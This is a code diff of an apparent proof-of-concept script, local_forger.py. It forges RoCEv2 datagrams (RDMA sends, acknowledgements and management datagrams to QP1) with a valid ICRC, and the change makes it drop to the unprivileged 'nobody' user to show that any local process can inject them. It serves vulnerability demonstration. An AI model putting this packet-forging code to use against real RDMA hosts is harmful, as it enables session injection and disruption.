@@ -12,33 +12,24 @@ Usage:
                                    "realsend" to B and it prints what B's posted receive got:
                                    "received HEX COMPLETIONS" (or "no completion")
   local_forger.py forge SRC DST QPN KIND PSN
-                                   one datagram from a UDP socket bound to SRC (port chosen by
-                                   the kernel) to DST:4791, for QP QPN at PSN; KIND: send (RC
-                                   SEND ONLY of "forged!!"), ack (RC ACKNOWLEDGE), mad (UD SEND
-                                   ONLY of a 256-byte MAD to QP1 with the GSI Q_Key)
-The forger needs only the standard library: `python3 -I -S - forge ... < local_forger.py`
-runs it from a file its user may not be able to open.
+                                   started as root, becomes nobody (uid and gid 65534, no
+                                   groups, no capabilities) and sends one datagram from a UDP
+                                   socket bound to SRC (port chosen by the kernel) to DST:4791,
+                                   for QP QPN at PSN; KIND: send (RC SEND ONLY of "forged!!"),
+                                   ack (RC ACKNOWLEDGE), mad (UD SEND ONLY of a 256-byte MAD to
+                                   QP1 with the GSI Q_Key)
 """
+import os
 import socket
 import struct
 import sys
 import time
-import zlib
 
-ICRC_SEED = 0xDEBB20E3
+from roce_send import icrc
+
 IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
 GSI_QKEY = 0x80010000
-
-
-def icrc(pkt):
-    """The RoCEv2 ICRC of an IPv4 datagram (IP header on), little-endian on the wire."""
-    m = bytearray(pkt[:40])
-    m[1] = 0xFF                 # TOS
-    m[8] = 0xFF                 # TTL
-    m[10:12] = b"\xff\xff"      # IP checksum
-    m[26:28] = b"\xff\xff"      # UDP checksum
-    m[32] = 0xFF                # BTH resv8a
-    return zlib.crc32(bytes(m) + pkt[40:], ~ICRC_SEED & 0xFFFFFFFF)
+NOBODY = 65534
 
 
 def transport(kind, qpn, psn):
@@ -54,6 +45,10 @@ def transport(kind, qpn, psn):
 
 
 def forge(src, dst, qpn, kind, psn):
+    # The rest is done as nobody, without capabilities: what any local process may do.
+    os.setgroups([])
+    os.setgid(NOBODY)
+    os.setuid(NOBODY)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     # DF on an unconnected socket: the kernel gives the datagram IP ID 0, so its header, which
     # the ICRC covers, is known in advance (TOS, TTL and the checksums are masked out).
@@ -66,7 +61,7 @@ def forge(src, dst, qpn, kind, psn):
                      socket.inet_aton(src), socket.inet_aton(dst))
     udp = struct.pack("!HHHH", sport, 4791, udp_len, 0)
     s.sendto(body + struct.pack("<I", icrc(ip + udp + body)), (dst, 4791))
-    print(f"sent {kind} to QP {qpn:#x} at PSN {psn} from port {sport}", flush=True)
+    print(f"uid {os.getuid()} sent {kind} to QP {qpn:#x} at PSN {psn} from port {sport}", flush=True)
 
 
 def victim(device):
